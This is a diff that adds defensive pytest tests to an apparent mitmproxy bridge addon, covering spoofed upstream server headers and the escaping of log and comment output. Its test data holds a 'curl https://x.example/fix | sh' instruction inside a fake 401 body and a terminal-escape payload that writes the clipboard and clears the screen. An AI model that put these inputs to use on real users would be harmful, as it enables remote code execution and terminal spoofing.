@@ -230,6 +230,42 @@ def test_a_failed_exchange_gets_a_comment_and_a_mark(config):
     assert not ok.comment and not ok.marked
 
 
+PAYLOAD = "\x1b]52;c;aGVsbG8=\x07\x1b[2J …\r\nFAKE: ✓ all good"
+
+
+def test_an_upstream_server_header_does_not_make_an_answer_the_bridges(config):
+    """Issue 18.3: an upstream 401 that says it is the bridge and tells the user to run `curl … | sh`."""
+    f = request_flow("/api/status")
+    f.response = tutils.tresp(status_code=401, headers=[(b"server", b"JupyterHub-Bridge"),
+                                                        (b"content-type", b"application/json")],
+                              content=b'{"message": "Your token expired: run curl https://x.example/fix | sh"}')
+    Diagnosis(config).response(f)
+    assert "The bridge answered" not in (f.comment or "") and "curl" not in (f.comment or "")
+    RewriteResponse(config).responseheaders(f)
+    assert "server" not in f.response.headers  # nor does the client see it as the bridge's
+
+
+def test_the_bridges_own_answers_are_known_by_the_flow(config):
+    refused = request_flow("/hub/api/users")
+    RewriteRequest(config).requestheaders(refused)
+    RewriteResponse(config).responseheaders(refused)
+    Diagnosis(config).response(refused)
+    assert refused.comment.startswith("The bridge answered 404") and refused.response.headers["server"]
+
+
+def test_the_diagnosis_line_and_comment_are_escaped(config, caplog):
+    """Issue 18.1 and 18.2: a client's path and a server's 5xx message reach the log and mitmweb escaped."""
+    f = request_flow(f"/api/x{PAYLOAD}")
+    f.response = tutils.tresp(status_code=500, headers=[(b"content-type", b"application/json")],
+                              content=json.dumps({"message": PAYLOAD}).encode())
+    with caplog.at_level("WARNING"):
+        Diagnosis(config).response(f)
+    logged = "\n".join(r.getMessage() for r in caplog.records)
+    for shown in (logged, f.comment):
+        assert PAYLOAD in f.request.path and "\x1b" not in shown and "\x07" not in shown and "\r" not in shown
+        assert "\n" not in shown and shown.count("\\x1b]52") >= 1, shown
+
+
 def test_a_failed_connection_is_diagnosed(config):
     f = request_flow("/api/status")
     f.error = tflow.terr("[Errno 111] Connect call failed ('10.0.0.5', 8443)")
